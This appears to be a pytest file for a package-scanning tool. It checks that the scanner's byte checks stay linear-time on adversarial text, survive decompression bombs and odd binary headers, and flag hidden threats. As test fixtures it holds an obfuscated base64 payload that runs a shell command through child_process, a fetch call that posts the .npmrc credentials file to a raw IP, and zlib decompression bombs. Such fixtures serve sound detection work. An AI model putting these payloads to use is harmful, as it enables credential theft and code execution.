"""Text that is made to tire the checks costs time in proportion to its length, and no more."""

from __future__ import annotations

import base64
import time
import zlib
from pathlib import Path

import pytest
from tests.support.scanned import looked_at, package, told

from assay.finding import Severity
from assay.scan.bytes import BYTE_CHECKS

_TIRING = {
    "negations": "do not mention ",
    "paths": "read .env put ",
    "commands": "curl -a | tr | ",
    "pieces": "'a'+",
    "lists": "['a','b'].join(",
    "letters": "a\u0430",
    "escapes": "\\x41",
    "codes": "65, ",
    "brackets": "[]()!+",
    "blanks": "x" + " " * 130,
    "trailing": "a \t \t \t \t \n",
    "tags": "<important>",
}  # fmt: skip
_SIZE = 60_000  # characters


def _seconds(folder: Path, text: str) -> float:
    made = package(folder, "npm", {"a.js": text})
    started = time.process_time()
    for check in BYTE_CHECKS:
        list(check.run(made.files["a.js"]))
    return time.process_time() - started


@pytest.mark.parametrize("piece", _TIRING.values(), ids=_TIRING)
def test_twice_the_text_takes_about_twice_the_time(piece: str, tmp_path: Path) -> None:
    once = piece * (_SIZE // len(piece))
    short = min(_seconds(tmp_path, once) for _ in range(2))
    long = _seconds(tmp_path, once * 3)
    # A quadratic pattern would be at nine times; what is left of noise is not.
    assert long < 6 * short + 0.1
    assert long < 5


def test_a_compressed_bomb_is_taken_out_to_a_bound(tmp_path: Path) -> None:
    bomb = base64.b64encode(zlib.compress(b"A" * (64 << 20), 9)).decode()
    looked_at(tmp_path, "npm", {"a.js": f"eval(inflate('{bomb}'))"})


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\0",
        b"\xff\xfe",
        b"PK\5\6",
        b"PK\3\4" + bytes(30),
        b"\x1f\x8b" + bytes(20),
        b"MZ",
        b"\x7fELF",
    ],
    ids=repr,
)
@pytest.mark.parametrize(
    "name", ["a.js", "a.py", "a.png", "a.zip", "package.json", "setup.py", "a.pth", "a"]
)
def test_nothing_raises_whatever_the_bytes(raw: bytes, name: str, tmp_path: Path) -> None:
    looked_at(tmp_path, "npm", {name: raw, "b/" + name: raw})


def test_what_was_not_taken_out_is_told(tmp_path: Path) -> None:
    # Each piece unpacks to the bound of one, and all of them to more than the bound of a file.
    bombs = [
        base64.b64encode(zlib.compress(bytes([65 + n]) * (4 << 20))).decode() for n in range(9)
    ]
    hits = looked_at(tmp_path, "npm", {"a.js": "\n".join(f"inflate('{bomb}')" for bomb in bombs)})
    assert "unread-encoding" in told(hits, Severity.WARNING)


def test_a_payload_behind_many_harmless_ones_is_found(tmp_path: Path) -> None:
    harmless = [base64.b64encode(f"some text of number {n}".encode()).decode() for n in range(5000)]
    hidden = base64.b64encode(b"require('child_process').exec('id')").decode()
    lines = [f"const a{n} = '{one}';" for n, one in enumerate([*harmless, hidden])]
    hits = looked_at(tmp_path, "npm", {"a.js": "\n".join([*lines, "eval(atob(a5000))"])})
    assert "hidden-program" in told(hits, Severity.ERROR)


def test_harmless_mentions_before_it_hide_no_theft(tmp_path: Path) -> None:
    early = "// reads .npmrc as npm does\n" * 20 + "const x = 1;\n" * 300
    theft = (
        "fetch('http://45.9."
        + "148.99/', {method: 'POST', body: fs.readFileSync(h + '/.npmrc')})\n"
    )
    hits = looked_at(tmp_path, "npm", {"a.js": early + theft})
    assert "steals-credentials" in told(hits, Severity.ERROR)
